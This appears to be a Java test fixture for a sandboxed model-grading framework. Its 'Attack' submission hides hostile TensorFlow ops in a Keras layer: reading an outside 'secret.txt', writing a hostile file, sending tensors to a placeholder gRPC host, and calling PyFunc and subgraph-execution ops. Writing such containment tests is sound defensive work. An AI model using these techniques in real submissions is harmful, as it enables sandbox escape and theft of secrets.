import dev.assay.keras.layers.Layer;
import dev.assay.keras.models.Model;
import dev.assay.problems.ProblemSpec;
import org.tensorflow.Operand;
import org.tensorflow.OperationBuilder;
import org.tensorflow.op.Ops;
import org.tensorflow.proto.DataType;
import org.tensorflow.types.TFloat32;
import org.tensorflow.types.TString;
import org.tensorflow.types.TUint8;

@dev.assay.problems.Answers("iris")
class Answer extends Attack {
  private static final DataType[] FLOAT = {DataType.DT_FLOAT};

  @Override
  void attack() {}

  @Override
  public Model build(ProblemSpec spec) {
    return model(spec, Layer.lambda(Answer::all));
  }

  private static Operand<TFloat32> all(Ops tf, Operand<TFloat32> x) {
    Operand<TString> file = tf.constant("@OUTSIDE@/hostile-file");
    tf.io.writeFile(file, tf.io.readFile(tf.constant("@OUTSIDE@/secret.txt")));
    tf.image.decodePng(tf.constant("a bomb"), TUint8.class);
    tf.print(file);
    operation(tf, "Barrier").setAttr("component_types", FLOAT).build();
    operation(tf, "Send")
        .addInput(x.asOutput())
        .setAttr("tensor_name", "x")
        .setAttr("send_device", "/cpu:0")
        .setAttr("send_device_incarnation", 1)
        .setAttr("recv_device", "grpc://127.0.0.2:@PORT@")
        .build();
    operation(tf, "PyFunc")
        .addInputList(new org.tensorflow.Output<?>[] {x.asOutput()})
        .setAttr("token", "f")
        .setAttr("Tin", FLOAT)
        .setAttr("Tout", FLOAT)
        .build();
    operation(tf, "TfLiteSubgraphExecute")
        .addInput(file.asOutput())
        .addInputList(new org.tensorflow.Output<?>[] {x.asOutput()})
        .setAttr("Targs", FLOAT)
        .setAttr("Tout", FLOAT)
        .build();
    return x;
  }

  private static OperationBuilder operation(Ops tf, String type) {
    return tf.scope().opBuilder(type, "hostile");
  }
}
